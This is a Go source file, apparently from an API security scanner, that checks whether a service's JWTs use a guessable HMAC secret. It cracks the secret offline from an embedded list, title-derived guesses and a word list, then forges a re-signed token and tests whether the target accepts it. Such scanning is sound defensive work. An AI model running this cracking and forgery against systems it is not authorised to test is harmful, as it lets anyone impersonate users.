package attack

import (
	"bufio"
	"bytes"
	"context"
	_ "embed"
	"os"
	"strings"
	"unicode"
)

//go:embed secrets.txt
var knownSecrets string

// longestSecret bounds one line of a word list, in bytes.
const longestSecret = 4096

// jwtWeakSecret looks for the HMAC secret of the victim's token in the
// embedded list, in words of the API's own title, and in the word list. The
// token says itself when it is found; nothing is sent but the proof: a token
// that the scan signed, accepted.
func jwtWeakSecret(ctx context.Context, t *Target) error {
	for _, h := range t.tokensTested {
		if hmacHash(h.jws.alg()) == nil {
			continue
		}
		secret, from, err := t.crack(ctx, h.jws)
		if err != nil {
			return err
		}
		if secret == nil {
			continue
		}
		t.secret = secret
		t.Redactor.Add(string(secret))
		// Signed anew with the claims in another order of bytes, so that it is
		// not the token that was handed out.
		reading, res, err := t.present(ctx, h, hs(h.jws.alg(), h.jws.header, with(h.jws.claims, "countersign", true), secret))
		if err != nil {
			return err
		}
		opts := []option{confidence("observed")}
		message := t.sayf("The %s secret stands in %s (%d bytes): anyone can sign tokens in anyone's name.", h.jws.alg(), from, len(secret))
		if reading == Accepted {
			message += t.sayf(" A token that the scan signed itself was accepted in %s.", h)
			opts = append(opts, evidence(t.labelled("a token signed with the secret that was found, accepted", res)...))
		}
		t.report("jwt-weak-secret", nil, message, opts...)
		return nil
	}
	return nil
}

// crack tries secrets on a token, offline.
func (t *Target) crack(ctx context.Context, j *jws) (secret []byte, from prose, err error) {
	for line := range strings.Lines(knownSecrets) {
		if s := strings.TrimRight(line, "\r\n"); j.signedBy([]byte(s)) {
			return []byte(s), "the list of well-known secrets", nil
		}
	}
	for _, s := range derived(t.Title) {
		if j.signedBy([]byte(s)) {
			return []byte(s), "words made of the API's own title", nil
		}
	}
	if t.Wordlist == "" {
		return nil, "", nil
	}
	f, err := os.Open(t.Wordlist)
	if err != nil {
		return nil, "", err
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 64<<10), longestSecret)
	for n := 0; sc.Scan(); n++ {
		if n%4096 == 0 && ctx.Err() != nil {
			return nil, "", ctx.Err()
		}
		if j.signedBy(sc.Bytes()) {
			return bytes.Clone(sc.Bytes()), "the word list", nil
		}
	}
	if err := sc.Err(); err != nil {
		t.Note("the word list was read only in part: " + err.Error())
	}
	return nil, "", nil
}

// derived makes the secrets that people make of a name: the words of a title
// alone and together, with the endings that tutorials use.
func derived(title string) []string {
	words := strings.FieldsFunc(strings.ToLower(title), func(r rune) bool { return !unicode.IsLetter(r) && !unicode.IsDigit(r) })
	if len(words) > 8 {
		words = words[:8]
	}
	stems := append([]string{}, words...)
	if len(words) > 1 {
		stems = append(stems, strings.Join(words, ""), strings.Join(words, "-"), strings.Join(words, "_"))
	}
	var out []string
	for _, s := range stems {
		for _, v := range []string{s, strings.ToUpper(s), strings.ToUpper(s[:1]) + s[1:]} {
			for _, end := range []string{"", "secret", "-secret", "_secret", "-secret-key", "_secret_key", "-key", "_key", "123", "-dev", "-jwt-secret", "_jwt_secret", "-super-secret", "-super-secret-key"} {
				out = append(out, v+end)
			}
		}
	}
	return out
}
